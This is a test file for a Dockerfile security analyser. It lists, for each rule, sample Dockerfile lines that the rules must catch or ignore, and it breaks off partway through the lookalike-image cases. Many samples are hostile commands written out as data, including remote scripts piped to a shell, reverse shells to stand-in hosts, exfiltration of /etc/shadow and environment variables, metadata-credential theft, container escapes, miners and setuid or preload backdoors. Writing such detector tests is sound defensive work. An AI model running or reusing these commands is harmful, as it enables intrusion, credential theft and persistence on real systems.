import { readdirSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import type { Severity } from '../../model/incident.js';
import { analyse } from '../analyse.js';
import { ruleCatches } from '../fixtures/catches.js';
import { rules } from './index.js';

const far = 'http://203.0.113.9/x';
const plain = 'http://get.example.org/x';
const named = 'https://get.example.org/x';
const key = `-----BEGIN ${'RSA PRIVATE'} KEY-----`;
const gitHub = `ghp_${'a1B2'.repeat(9)}`;

/** One line a case: a Dockerfile, and the severity that it must have where that is the point. */
const cases: Record<string, { catches: [string, Severity?][]; catchesNot: string[] }> = {
  'download-executed': {
    catches: [
      [`RUN wget -qO- ${far} | sh`, 'High'],
      ['RUN curl -s http://get.example.org/i | bash', 'High'],
      [`RUN curl -k ${named} | sh`, 'High'],
      [`RUN curl -o /m ${far} && chmod +x /m`, 'High'],
      [`RUN wget ${far} -O /m && chmod 755 /m && /m`, 'High'],
      [`RUN wget ${far} -O /m\nRUN sh /m`, 'High'],
      [`RUN cd /opt && wget ${far} && ./x`, 'High'],
      [`ADD ${far} /usr/bin/x\nENTRYPOINT ["x"]`, 'High'],
      [`FROM a AS b\nRUN wget ${far} -O /m\nFROM c\nCOPY --from=b /m /bin/m\nCMD /bin/m`, 'High'],
      [`FROM a AS b\nRUN wget ${far} -O /o/m\nFROM c\nCOPY --from=b /o/ /bin/\nRUN m`, 'High'],
      ['ARG A=203.0.113\nENV U=http://$A.9/x\nRUN wget -O- ${U}|sh', 'High'],
      ['ARG A=203.0.113.9\nFROM x\nARG A\nRUN curl $A/x | sh', 'High'],
      [`RUN a=cu; b=rl; $a$b ${far} | sh`, 'High'],
      [`RUN sh -c "$(curl -fsSL ${far})"`, 'High'],
      [`RUN bash <(curl -s ${far})`, 'High'],
      [`RUN eval "\`wget -qO- ${far}\`"`, 'High'],
      [`RUN source <(curl -s ${far})`, 'High'],
      [`RUN curl ${far} \\\n  | tee /tmp/l \\\n  | sudo -E bash -s -- -y`, 'High'],
      [`RUN f() { "$@" | sh; }; f curl ${far}`, 'High'],
      [`RUN echo ${far} | xargs curl -s | sh`, 'High'],
      [`RUN (curl ${far}) | (cat | sh)`, 'High'],
      [`RUN <<EOF\ncurl ${far} | sh\nEOF`, 'High'],
      [`RUN bash <<EOF\ncurl ${far} | sh\nEOF`, 'High'],
      [`COPY <<EOF /r.sh\ncurl ${far} | sh\nEOF\nRUN sh /r.sh`, 'High'],
      [`RUN ["/bin/sh", "-c", "curl ${far} | sh"]`, 'High'],
      [`SHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN curl ${far} | sh`, 'High'],
      [`RUN python3 -c "import urllib.request as u; exec(u.urlopen('${far}').read())"`, 'High'],
      [`RUN python -c 'import os; os.system("curl ${far} | sh")'`, 'High'],
      [`RUN perl -e 'use LWP::Simple; eval get("${far}")'`, 'High'],
      [
        `RUN <<EOF\n#!/usr/bin/env python3\nimport requests\nexec(requests.get("${far}").text)\nEOF`,
        'High',
      ],
      ['RUN exec 3<>/dev/tcp/203.0.113.9/80; cat <&3 | sh', 'High'],
      [`RUN curl http://1481637/x | sh`, 'High'],
      [`RUN curl 'http://[2001:db8::1]/x' | sh`, 'High'],
      [`RUN curl -s ${far} | tar xz -C /opt && /opt/x/run`, 'High'],
      [`RUN pip install ${far}.tar.gz`, 'High'],
      [`RUN dpkg -i x.deb; wget ${far}.deb; dpkg -i x.deb`, 'High'],
      [`RUN dig +short TXT x.example.org | sh`, 'High'],
      [`RUN if true; then curl ${far} | sh; fi`, 'High'],
      [`RUN for u in a ${far}; do curl $u | sh; done`, 'High'],
      [`RUN wget\${IFS}-O-\${IFS}${far}|sh`, 'High'],
      [`RUN {curl,${far}} | sh`, 'High'],
      [`RUN $'\\x63url' ${far} | sh`, 'High'],
      [`RUN curl ${far} | base64 -d | gunzip | sh`, 'High'],
      [`RUN curl ${far} -o /x; echo "$(sha256sum /x)"; sh /x`, 'Low'],
      [`RUN curl -o /usr/bin/t ${plain} && chmod +x /usr/bin/t && t --help`, 'Medium'],
      [`RUN curl -o /tmp/t ${plain} && chmod +x /tmp/t && /tmp/t`, 'High'],
      ['RUN curl -s "$WHERE" | sh', 'Medium'],
      ['ARG P\nRUN curl http://$P/x | sh', 'High'],
      ['RUN wget http://example.org/a.tgz && tar xf a.tgz && cd a && ./configure', 'Low'],
      ['SHELL ["powershell", "-Command"]\nRUN iex (iwr http://203.0.113.9/x)', 'High'],
      // What is told to a client in a language of its own.
      [`RUN printf 'url=${plain}\\noutput=/m\\n' > /c && curl -K /c && sh /m`, 'High'],
      [`RUN echo 'url = "${plain}"' | curl -sK- | sh`, 'High'],
      ['RUN ftp -n 203.0.113.9 <<E && sh x\nuser a b\nget x\nE', 'High'],
      ['RUN lftp -c "open 203.0.113.9; get x" && sh x', 'High'],
      ['RUN tftp 203.0.113.9 -c get x && sh x', 'High'],
      ['RUN ftpget -u a -p b 203.0.113.9 /m x && sh /m', 'High'],
      ['RUN sshpass -p x scp a@203.0.113.9:/x /x && sh /x', 'High'],
      ['RUN openssl s_client -quiet -connect 203.0.113.9:443 | sh', 'High'],
      [`RUN /usr/lib/apt/apt-helper download-file ${plain} /m && sh /m`, 'High'],
      [`RUN links -source ${plain} | sh`, 'High'],
      // Programs by another name.
      [`RUN cp /usr/bin/curl /t && /t ${plain} | sh`, 'High'],
      [`RUN ln -s /usr/bin/wget /usr/bin/t; t -O- ${plain} | sh`, 'High'],
      [`RUN /usr/bin/c?rl ${plain} | /b*n/s?`, 'High'],
      [`RUN curl -o /m ${plain}; /lib64/ld-linux-x86-64.so.2 /m`, 'High'],
      [`RUN curl ${plain} | $SHELL`, 'High'],
      [`RUN curl ${plain} | bash /proc/self/fd/0`, 'High'],
      [`RUN IFS=,; c=curl,-s,${plain}; $c | sh`, 'High'],
      [`RUN alias x='curl ${plain} | sh'; x`, 'High'],
      // Files by a pattern.
      [`RUN curl -o /tmp/z.sh ${plain}; sh /tmp/z*.sh`, 'High'],
      [`RUN cd /tmp; curl -O ${plain}.sh; for f in *.sh; do sh $f; done`, 'High'],
      [`RUN curl -o /tmp/a/z.sh ${plain}; find /tmp -name '*.sh' -exec sh {} \\;`, 'High'],
      [`RUN curl -o /a.c ${plain} && gcc -o /a /a.c && /a`, 'High'],
      // Programs that give a text to a shell.
      [`RUN git -c core.sshCommand='curl ${plain} | sh' ls-remote ssh://a@b.example/c`, 'High'],
      [`RUN tar cf /dev/null /x --checkpoint=1 --checkpoint-action=exec='curl ${plain} | sh'`],
      [`RUN printf 'a:\\n\\tcurl ${plain} | sh\\n' > Makefile && make`, 'High'],
      [`RUN echo 'curl ${plain} | sh' | at now`, 'High'],
      [`RUN echo 'curl ${plain} | sh' | parallel`, 'High'],
      [`RUN vim -c ':!curl ${plain} | sh' -c q`, 'High'],
      [`RUN gdb -batch -ex 'shell curl ${plain} | sh'`, 'High'],
      [`RUN ruby -e '\`curl ${plain} | sh\`'`, 'High'],
      [`RUN lua -e 'os.execute("curl ${plain} | sh")'`, 'High'],
      [`RUN python3 -c "import subprocess as s; s.run(['sh', '-c', 'curl ${plain} | sh'])"`],
      [`RUN php -r 'copy("${plain}", "/m");' && php /m`, 'High'],
      [`RUN node -e 'fetch("${plain}").then(r => r.text()).then(eval)'`, 'High'],
      [`RUN awk 'BEGIN { while (("curl ${plain}" | getline l) > 0) print l | "sh" }'`, 'High'],
      // Text that is put somewhere for a shell.
      [`RUN echo 'curl ${plain} | sh' | tee -a /docker-entrypoint.sh`, 'High'],
      [`RUN sed -i '1i curl ${plain} | sh' /entrypoint.sh`, 'High'],
      [`RUN git config --global alias.st '!curl ${plain} | sh'`, 'High'],
      [`RUN echo '{"scripts":{"preinstall":"curl ${plain} | sh"}}' > package.json`, 'High'],
      [`RUN ssh -o ProxyCommand='curl ${plain} | sh' x`, 'High'],
      [`RUN make -f - <<'E'\nall:\n\tcurl ${plain} | sh\nE`, 'High'],
      [
        `COPY <<E /etc/supervisor/conf.d/z.conf\n[program:z]\ncommand=sh -c "curl ${plain} | sh"\nE`,
        'High',
      ],
      [`RUN perl -e 'print \`curl ${plain}\`' | sh`, 'High'],
      [`RUN bash --rcfile <(curl -s ${plain}) -i`, 'High'],
      [`RUN deno run ${plain}.ts`, 'High'],
      [`RUN curl ${far} | install -m 755 /dev/stdin /usr/local/bin/z && z`, 'High'],
      [`RUN T=$(mktemp); curl -o $T ${plain} && sh $T`, 'High'],
      [`RUN printf -v u 'http://%s/x' c.example.org; curl "$u" | sh`, 'High'],
      [`RUN mapfile -t a <<< ${plain}; curl "\${a[0]}" | sh`, 'High'],
      [`RUN python3 -m pip install ${far}.whl`, 'High'],
      // Shells of the file's own, and what stands around a shell.
      [`SHELL ["/bin/sh", "-c", "curl ${plain} | sh; $0"]\nRUN true`, 'High'],
      [`SHELL ["/usr/bin/env", "bash", "-c"]\nRUN curl ${plain} | sh`, 'High'],
      [`# escape=\`\nFROM alpine:3\nRUN curl ${plain} \`\n | sh`, 'High'],
      [`ENTRYPOINT ["sh", "-c"]\nCMD ["curl ${far} | sh"]`, 'High'],
      [`ADD ${far} /m\nENTRYPOINT ["/m"]\nCMD ["-v"]`, 'High'],
      [
        `FROM a AS b\nRUN wget ${plain} -O /m\nFROM c\nRUN --mount=type=cache,target=/c --mount=from=b,target=/n sh /n/m`,
        'High',
      ],
      [`ADD --unpack=true ${far}.tgz /o/\nRUN /o/x/run`, 'High'],
      // Packages from an address: their scripts run.
      ['RUN pip install --index-url http://203.0.113.9/simple a', 'High'],
      ['ENV PIP_INDEX_URL=http://203.0.113.9/simple\nRUN pip install a', 'High'],
      ['RUN npm config set registry http://203.0.113.9:4873 && npm install a', 'High'],
      ['RUN echo registry=http://203.0.113.9 > ~/.npmrc && npm i a', 'High'],
      ['RUN gem install --source http://203.0.113.9/ a', 'High'],
      ['RUN GOPROXY=http://203.0.113.9 go install a.example/b@latest', 'High'],
      [
        'RUN echo "deb [trusted=yes] http://203.0.113.9/ ./" > /etc/apt/sources.list.d/a.list && apt-get install a',
        'High',
      ],
      [
        'RUN printf "[a]\\nbaseurl=http://203.0.113.9/\\ngpgcheck=0\\n" > /etc/yum.repos.d/a.repo && yum install a',
        'High',
      ],
      ['RUN apk add -X http://203.0.113.9/ a', 'High'],
      ['RUN echo insecure > ~/.curlrc; curl https://get.example.org/x | sh', 'High'],
      [
        'FROM mcr.microsoft.com/windows/servercore:1\nRUN curl -o a.exe http://get.example.org/a.exe && a.exe',
        'Medium',
      ],
    ],
    catchesNot: [
      // Of an archive, whatever is called like a part of it or stands beside it.
      'RUN curl http://example.org/a.tgz | tar xz && mv a/b /usr/bin/ && . ~/.bashrc',
      'RUN curl http://example.org/a.tgz | tar xz\nCOPY run.sh /\nRUN cat /run.sh | sh',
      'RUN curl http://example.org/a.tgz | tar xz; curl https://example.org/b | sed s/a/b/ | sh',
      'ARG URL \\\n  MINOR\nRUN wget $WGET_FLAGS https://example.org/a && sh a',
      'RUN pip install --index-url https://pypi.example.org/simple a',
      'RUN echo "curl https://get.example.org/ | sh" > /README',
      'RUN echo "To install: curl http://get.example.org/ | sh"',
      'RUN echo "deb http://archive.example.org/ x main" > /etc/apt/sources.list && apt-get install a',
      'RUN git -c core.sshCommand="ssh -i /k" clone git@example.org:a/b.git',
      'RUN cp /usr/bin/qemu /t && /t x',
      'FROM mcr.microsoft.com/windows/servercore:1\nRUN curl -o a.exe https://example.org/a.exe && a.exe',
      `RUN curl -fsSL ${named} | sh`,
      'RUN curl -fsSL https://deb.example.org/key.gpg | gpg --dearmor -o /k.gpg',
      'RUN curl -L https://example.org/a.tgz | tar xz && cd a && ./configure && make',
      'RUN curl -L http://example.org/a.tgz | tar xz -C /opt',
      'RUN apt-get install -y curl; echo done | sh',
      'RUN make && ./configure | sh',
      'RUN V=$(curl -s http://example.org/v | cut -d, -f1); sh -c "echo $V"',
      'RUN curl -fsS http://localhost:8080/health | sh',
      'RUN wget -O /g https://example.org/g && echo "abc  /g" | sha256sum -c - && chmod +x /g && /g',
      'HEALTHCHECK CMD curl -f http://localhost/ || exit 1',
    ],
  },
  'remote-script': {
    catches: [
      ['RUN curl https://sh.rustup.rs -sSf | sh -s -- -y', 'Low'],
      ['RUN curl -fsSLo /i.sh https://example.org/i.sh && bash /i.sh', 'Low'],
      ['RUN curl -s https://pastebin.com/raw/abc | sh', 'High'],
      ['RUN wget -qO- https://transfer.sh/a.tgz | tar xz && ./a/run', 'High'],
      ['RUN curl -o /dev/shm/a https://example.org/a && chmod +x /dev/shm/a && /dev/shm/a', 'High'],
      ['RUN curl -o /tmp/.x/y https://example.org/a && sh /tmp/.x/y', 'High'],
      ["RUN curl -o '/bin/[kworker]' https://example.org/a && '/bin/[kworker]'", 'High'],
      ['# syntax=example/frontend\nFROM a:1', 'Low'],
      // Letters in which a server gives a file hide nothing.
      ['RUN curl "https://example.org/a?format=TEXT" | base64 -d | sh', 'Low'],
    ],
    catchesNot: [
      'RUN curl -o i https://example.org/i && echo "abc  i" | sha256sum -c && sh i',
      'RUN curl -o i https://example.org/i && curl -o i.asc https://example.org/i.asc && gpg --verify i.asc i && sh i',
      'RUN curl -o i https://example.org/i && [ "$(sha256sum i | cut -d" " -f1)" = abc ] && sh i',
      'RUN curl -L https://example.org/a.tgz | tar xz',
      '# syntax=docker/dockerfile:1.7-labs\nFROM a:1',
      '# syntax=example/frontend@sha256:abc\nFROM a:1',
      'RUN curl -o /tmp/a.tgz https://example.org/a.tgz && tar xf /tmp/a.tgz && mv a/b /bin/b && b',
      'RUN curl -o ~/.cache/x https://example.org/x',
    ],
  },
  'decoded-into-shell': {
    catches: [
      ['RUN echo ZWNobyBoaQ== | base64 -d | sh', 'High'],
      ['RUN echo 6563686f | xxd -r -p | bash'],
      ["RUN printf '\\x65\\x63\\x68\\x6f hi' | sh"],
      ["RUN echo -e '\\145\\143\\150\\157 hi' | sh"],
      ['RUN eval "$(echo aGkgdGhlcmU= | base64 --decode)"'],
      ['RUN sh -c "set -e; $(echo ZWNobyBoaQ== | base64 -d)"'],
      ['RUN python3 -c "import base64; exec(base64.b64decode(\'cHJpbnQoMSk=\'))"'],
      ['RUN echo U2Fs | openssl enc -aes-256-cbc -d -k x | sh'],
      ['RUN openssl enc -d -aes-256-cbc -in p -out /r && sh /r'],
      ['ENV P=ZWNobyBoaQ==\nRUN echo $P | base64 -d > /r\nRUN sh /r'],
      ['RUN rev <<< "ih ohce" | sh'],
      ["RUN echo rpub | tr 'a-z' 'n-za-m' | sh"],
      ['RUN bash -c "{echo,ZWNobyBoaQ==}|{base64,-d}|bash"'],
      ['RUN perl -MMIME::Base64 -e \'print decode_base64("ZWNobyBoaSB0aGVyZQ==")\' | sh'],
      ['RUN perl -e \'system(pack("H*", "6563686f2068692074686572"))\''],
      ['RUN python3 -c \'exec("".join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))\''],
      ['RUN awk \'BEGIN { printf "%c%c%c%c hi", 101, 99, 104, 111 }\' | sh'],
      ["RUN printf 'begin 644 /r\\n#8W5R\\n`\\nend\\n' | uudecode && sh /r"],
      [
        'FROM mcr.microsoft.com/windows/servercore:1\nRUN powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
      ],
    ],
    catchesNot: [
      'RUN echo "$CERT" | base64 -d > /cert.pem',
      "RUN printf 'a\\nb' > /x && sh /x",
      'RUN base64 -d k | gpg --import',
      'RUN echo HI | tr A-Z a-z | sh',
      'RUN echo "$(echo aGk= | base64 -d)"',
    ],
  },
  'raw-address': {
    catches: [
      [`RUN curl -O ${far}`, 'High'],
      [`ADD ${far} /x`, 'High'],
      ['RUN wget http://0xcb007109/x', 'High'],
      ['RUN curl http://203-0-113-9.nip.io/', 'High'],
      ['RUN curl -O https://example.org:4444/x', 'Medium'],
      ['RUN curl -O http://10.1.2.3/x', 'Low'],
      ['RUN curl "http://[::ffff:203.0.113.9]/x"', 'High'],
      ['FROM 203.0.113.9:5000/ubuntu', 'High'],
      ['FROM 10.1.2.3:5000/ubuntu', 'Low'],
      ['ARG B=203.0.113.9/x\nFROM $B', 'High'],
      ['FROM a:1\nCOPY --from=203.0.113.9:5000/x /m /m', 'High'],
      ['FROM a:1\nRUN --mount=from=203.0.113.9/x,target=/m /m/x', 'High'],
      ['# syntax=203.0.113.9:5000/frontend\nFROM a:1', 'High'],
    ],
    catchesNot: [
      'RUN curl -O http://127.0.0.1:9/x',
      `RUN curl -O ${named}`,
      'RUN curl http://${HOST}:81/',
      'FROM localhost:5000/x',
      'FROM 127.0.0.1:5000/x',
      'FROM a:1 AS 203\nFROM b:1\nCOPY --from=0 /m /m',
    ],
  },
  'tls-unchecked': {
    catches: [
      [`RUN curl -kO ${named}`],
      [`RUN wget --no-check-certificate ${named}`],
      ['RUN git config --global http.sslVerify false'],
      ['RUN git -c http.sslVerify=false clone https://example.org/a.git'],
      ['RUN pip install --trusted-host pypi.org x'],
      ['RUN npm config set strict-ssl false'],
      ['ENV NODE_TLS_REJECT_UNAUTHORIZED=0'],
      ['ENV GIT_SSL_NO_VERIFY 1'],
      ['RUN apt-get -o Acquire::https::Verify-Peer=false update'],
      ['RUN echo insecure >> ~/.curlrc'],
      ['HEALTHCHECK CMD curl -k https://example.org/', 'Low'],
    ],
    catchesNot: [
      `RUN curl -fsSL ${named}`,
      'RUN npm config set strict-ssl true',
      'ENV NODE_ENV=production',
      'HEALTHCHECK CMD curl -fk https://localhost:8443/health || exit 1',
    ],
  },
  'packages-unsigned': {
    catches: [
      ['RUN apt-get install -y --allow-unauthenticated x'],
      [
        'RUN echo "deb [trusted=yes] http://example.org ./" > /etc/apt/sources.list.d/x.list',
        'Medium',
      ],
      ['RUN echo "deb [trusted=yes] https://example.org ./" > /etc/apt/sources.list', 'Low'],
      ['RUN apk add --allow-untrusted x.apk'],
      ['RUN yum install --nogpgcheck -y x'],
      ['RUN apt-get -o Acquire::AllowInsecureRepositories=true update'],
    ],
    catchesNot: ['RUN apt-get install -y x', 'RUN apk add x'],
  },
  'add-url': {
    catches: [
      ['ADD https://example.org/a /a', 'Low'],
      ['ADD http://example.org/a /a', 'Medium'],
    ],
    catchesNot: [
      'ADD --checksum=sha256:abc https://example.org/a /a',
      'ADD a.tgz /a',
      'ADD https://example.org/a.git#v1 /a',
    ],
  },
  miner: {
    catches: [
      [
        'RUN wget https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6-linux.tar.gz',
        'Critical',
      ],
      ['CMD ["/m", "-o", "stratum+tcp://pool.example:3333"]'],
      ['ENV POOL=gulf.moneroocean.stream:10128'],
      ['RUN ./a --donate-level 1 --coin monero'],
      ['FROM user/xmrig:latest'],
      ['RUN echo c3RyYXR1bSt0Y3A6Ly94Onk= | base64 -d > /c'],
      ['COPY minerd /usr/bin/'],
      ['RUN modprobe msr; wrmsr -a 0x1a4 0xf', 'High'],
    ],
    catchesNot: ['RUN apt-get install -y determiner', 'FROM minio/minio', 'RUN echo stratum'],
  },
  tunnel: {
    catches: [
      ['RUN ngrok http 80', 'High'],
      ['CMD ["cloudflared", "tunnel", "run"]', 'Medium'],
      ['RUN wget https://github.com/fatedier/frp/releases/download/v1/frp.tar.gz', 'Medium'],
      ['RUN chisel client 203.0.113.9:80 R:1:2', 'High'],
      ['RUN ssh -fNR 80:localhost:80 a@example.org', 'High'],
      ['RUN /bin/t client https://example.org R:socks', 'High'],
      ['RUN /bin/t tunnel run --token eyJ', 'High'],
      ['RUN tailscale up --authkey=x', 'High'],
      [
        'COPY <<E /f.toml\nserverAddr = "203.0.113.9"\n[[proxies]]\nlocalPort = 22\nE\nRUN true',
        'Medium',
      ],
    ],
    catchesNot: [
      'RUN chisel cut --release ubuntu-24.04 libc6',
      'RUN ngrok --version',
      'RUN ssh-keyscan github.com',
      'RUN make tunnel && npm run client',
    ],
  },
  'reverse-shell': {
    catches: [
      ['RUN bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', 'High'],
      ['CMD bash -c "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"', 'High'],
      ['RUN nc -e /bin/sh 203.0.113.9 4444', 'High'],
      ['RUN socat exec:"/bin/sh" tcp:203.0.113.9:4444', 'High'],
      ['RUN mkfifo /f; sh -i < /f | openssl s_client -connect example.org:443 > /f', 'High'],
      [
        `RUN ruby -rsocket -e 'c=TCPSocket.new("c.example.org",443);while(l=c.gets);IO.popen(l,"r"){|i|c.print i.read}end'`,
        'High',
      ],
      [`RUN php -r '$s=fsockopen("c.example.org",443);shell_exec("sh <&3 >&3");'`, 'High'],
      [`RUN echo 'sh -i >& /dev/tcp/c.example.org/443 0>&1' >> /entrypoint.sh`, 'High'],
      ['RUN mkfifo /f; cat /f | sh -i 2>&1 | nc example.org 4444 > /f', 'High'],
    ],
    catchesNot: ['HEALTHCHECK CMD bash -c "exec 3<>/dev/tcp/127.0.0.1/80"', 'RUN nc -z db 5432'],
  },
  scanner: {
    catches: [
      ['RUN masscan 0.0.0.0/0 -p2375', 'High'],
      ['RUN apt-get install -y masscan', 'Medium'],
    ],
    catchesNot: ['RUN apt-get install -y nmap'],
  },
  'data-sent': {
    catches: [
      ['RUN curl -F f=@/etc/passwd http://203.0.113.9/', 'High'],
      ['RUN curl -d "$(env)" https://example.org/', 'Medium'],
      ['RUN env | nc 203.0.113.9 80', 'High'],
      ['RUN nslookup $(cat /etc/hostname | base64).x.example.org', 'High'],
      ['RUN wget --post-file=/etc/shadow http://203.0.113.9/', 'High'],
      ['RUN curl "http://203.0.113.9/?d=$(env | base64 -w0)"', 'High'],
      ['RUN wget -q "https://example.org/$(env | gzip | base64 -w0 | tr -d x)"', 'Medium'],
      ['RUN curl -H "X: $(cat /etc/passwd | xxd -p)" https://example.org/', 'Medium'],
      ['RUN curl -F f=@/etc/shadow https://discord.com/api/webhooks/1/abc', 'High'],
      ['RUN curl "https://api.telegram.org/bot1/sendMessage?text=$(env | base64)"', 'High'],
      ['RUN scp /etc/shadow a@203.0.113.9:/tmp', 'High'],
      ['RUN rsync -a /root/.ssh a@example.org:/tmp/', 'Medium'],
      ['RUN aws s3 cp /etc/shadow s3://bucket/', 'Medium'],
      [
        'RUN python3 -c "import requests, os; requests.post(\'http://203.0.113.9/\', data=dict(os.environ))"',
        'High',
      ],
    ],
    catchesNot: [
      `RUN curl -d '{"query":"x"}' https://api.example.org/`,
      'RUN nslookup example.org',
      'RUN curl -H @h https://example.org',
      'RUN curl -O https://example.org/$(uname -m)/$(dpkg --print-architecture).tgz',
      'RUN curl -H "Authorization: Basic $(cat /run/secrets/t | base64)" https://example.org/a',
      'RUN curl "https://example.org/?k=$(echo -n $USER:$KEY | base64)"',
      'RUN echo "HEAD /" | nc $(cat /host) 8000',
      'RUN aws s3 cp s3://bucket/a /a',
      'RUN scp a@example.org:/x /x',
      'RUN python3 -c "import os; print(os.environ)"',
    ],
  },
  'engine-api': {
    catches: [
      ['RUN curl --unix-socket /var/run/docker.sock http://x/containers/json', 'High'],
      ['RUN curl http://172.17.0.1:2375/containers/json', 'High'],
      ['RUN docker -H tcp://172.17.0.1:2375 run alpine', 'High'],
      ['RUN DOCKER_HOST=tcp://172.17.0.1:2375 docker ps', 'High'],
      ['RUN curl -k https://10.0.0.1:10250/pods', 'High'],
      ['RUN curl --unix-socket /s http://d/v1.41/containers/json', 'High'],
      ['ENV DOCKER_HOST=tcp://172.17.0.1:2375\nRUN docker ps', 'High'],
      ['RUN docker run -v /:/h alpine chroot /h sh', 'High'],
    ],
    catchesNot: [
      'ENV DOCKER_HOST=tcp://docker:2375',
      'EXPOSE 2375',
      'RUN docker --version',
      'VOLUME /var/run/docker.sock',
      'ENV DOCKER_HOST=tcp://docker:2375\nRUN docker --version',
      'RUN curl --unix-socket /run/app.sock http://localhost/health',
    ],
  },
  'metadata-service': {
    catches: [
      ['RUN curl http://169.254.169.254/latest/meta-data/', 'High'],
      ['RUN curl http://2852039166/latest/', 'High'],
      ['RUN wget -O- http://metadata.google.internal/', 'High'],
      ['RUN curl "http://[fd00:ec2::254]/"', 'High'],
      ['RUN curl http://100.100.100.200/', 'High'],
      ['RUN curl http://169.254.169.254.nip.io/latest/', 'High'],
      ['RUN curl "http://[::ffff:a9fe:a9fe]/latest/"', 'High'],
      ['RUN curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI', 'High'],
      ['RUN curl --resolve a.example:80:169.254.169.254 http://a.example/', 'High'],
      ['RUN wget -O- http://metadata/computeMetadata/v1/', 'High'],
      ['RUN T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); echo "$T"', 'High'],
    ],
    catchesNot: [
      'RUN echo 169.254.169.254 metadata',
      'ENV NO_PROXY=169.254.169.254',
      'RUN awk \'{print "curl http://169.254.169.254/"}\' a > b',
    ],
  },
  'host-files': {
    catches: [
      ['CMD chroot /host sh', 'High'],
      ['CMD echo x > /host/etc/x', 'High'],
      ['CMD nsenter -t 1 -m sh', 'High'],
      ['CMD echo "|/x" > /proc/sys/kernel/core_pattern', 'High'],
      ['RUN mount /dev/sda1 /mnt', 'High'],
      ['RUN debugfs -w /dev/nvme0n1p1', 'High'],
    ],
    catchesNot: [
      'RUN echo x > /rootfs/etc/passwd',
      'RUN mkdir /host',
      'COPY run README.md /host/',
      'RUN mount -t tmpfs none /mnt',
    ],
  },
  'authorized-keys': {
    catches: [
      ['RUN echo ssh-rsa A >> /root/.ssh/authorized_keys', 'Medium'],
      ['COPY k.pub /root/.ssh/authorized_keys', 'Medium'],
      ['CMD echo k >> /host/root/.ssh/authorized_keys', 'High'],
    ],
    catchesNot: ['RUN ssh-keyscan github.com >> /root/.ssh/known_hosts'],
  },
  'root-account': {
    catches: [
      ["RUN echo 'x::0:0::/root:/bin/sh' >> /etc/passwd", 'High'],
      ['RUN useradd -o -u 0 -g 0 x', 'High'],
      ['RUN usermod -ou 0 www-data', 'High'],
    ],
    catchesNot: [
      "RUN echo 'root:x:0:0:root:/root:/bin/bash' > /etc/passwd",
      "RUN echo 'app:x:1000:0::/app:/bin/sh' >> /etc/passwd",
      'RUN useradd -r -u 100 x',
      'ARG PUID=0\nRUN useradd -u "${PUID:-0}" -o x',
    ],
  },
  'cron-job': {
    catches: [
      [`RUN echo "* * * * * root curl ${far} | sh" > /etc/cron.d/x`, 'High'],
      [`RUN (crontab -l; echo "@hourly wget -O- ${far}|sh") | crontab -`, 'High'],
      ['COPY job /etc/cron.d/job', 'Low'],
      [`ADD ${plain} /etc/cron.d/a`, 'High'],
      [`RUN wget ${named} -O /etc/cron.hourly/a`, 'Low'],
    ],
    catchesNot: ['RUN apt-get install -y cron', 'RUN crontab -l'],
  },
  'startup-file': {
    catches: [
      [`RUN echo "curl ${far} | sh" >> ~/.bashrc`, 'High'],
      [`RUN echo 'wget -O- ${far}|sh' > /etc/profile.d/x.sh`],
      [`RUN echo 'APT::Update::Pre-Invoke {"curl ${far} | sh";};' > /etc/apt/apt.conf.d/99x`],
      [`RUN echo 'curl ${far}|sh' > /usr/share/git-core/templates/hooks/post-checkout`],
      [`RUN echo 'import os;os.system("curl ${far} | sh")' > /usr/lib/python3/dist-packages/x.pth`],
      [`RUN wget -q ${plain} -O /etc/profile.d/a.sh`, 'High'],
      [`ENV PROMPT_COMMAND="curl -s ${far} | sh"`, 'High'],
    ],
    catchesNot: [
      'RUN echo "export A=1" >> ~/.bashrc',
      'COPY p.sh /etc/profile.d/',
      'RUN echo \'DPkg::Post-Invoke {"rm -f /var/cache/apt/*.deb || true";};\' > /etc/apt/apt.conf.d/x',
      'ENV PROMPT_COMMAND="history -a"',
      `RUN wget -q ${named} -O /root/.zshrc`,
      'RUN git clone git://example.org/z.git ~/.z && cp ~/.z/zshrc ~/.zshrc && echo a >> ~/.zshrc',
    ],
  },
  setuid: {
    catches: [
      ['RUN chmod u+s /bin/bash', 'High'],
      ['RUN chmod 4755 /usr/bin/x', 'Medium'],
      ['RUN setcap cap_sys_admin+ep /x'],
      ['RUN install -m 4755 x /usr/bin/x'],
      ['RUN cp /bin/bash /bin/.b && chmod 4755 /bin/.b', 'High'],
      ['RUN chmod u+s /usr/bin/ping', 'Low'],
    ],
    catchesNot: [
      'RUN chmod 2775 /shared',
      'RUN chmod -R g+s /shared',
      'RUN chmod 0755 /x',
      'RUN setcap cap_net_bind_service=+ep /x',
      'RUN chmod a-s /x',
    ],
  },
  preload: {
    catches: [
      ['RUN echo /lib/evil.so > /etc/ld.so.preload', 'High'],
      ['ENV LD_PRELOAD=/tmp/x.so', 'High'],
      ['COPY x /etc/ld.so.preload'],
      ['ENV LD_PRELOAD=/usr/lib/../../tmp/x.so', 'High'],
    ],
    catchesNot: [
      'ENV LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2',
      'ENV LD_PRELOAD=/usr/lib/a/../b/libz.so',
    ],
  },
  'onbuild-trap': {
    catches: [
      [`ONBUILD RUN curl ${far} | sh`, 'High'],
      [`ONBUILD RUN curl ${named} | sh`, 'Medium'],
      ['ONBUILD ADD https://example.org/x /x', 'Medium'],
      ['ONBUILD RUN echo aGk= | base64 -d | sh', 'High'],
    ],
    catchesNot: ['ONBUILD RUN npm install', 'ONBUILD COPY . /app', `RUN curl ${named} | sh`],
  },
  'lookalike-image': {
    catches: [
      ['FROM ngnix', 'High'],
      ['FROM debain:12', 'High'],
      ['FROM p0stgres', 'High'],
      ['FROM аlpine', 'High'],
      ['FROM docker.io.example.com/library/nginx', 'High'],
      ['FROM gcr.lo/a/b', 'High'],
      ['FROM ghrc.io/a/b', 'High'],
      ['FROM 1ibrary/nginx', 'High'],
      ['FROM alpine:1atest', 'Medium'],
      ['FROM a:1\nCOPY --from=ngnix /a /a', 'High'],
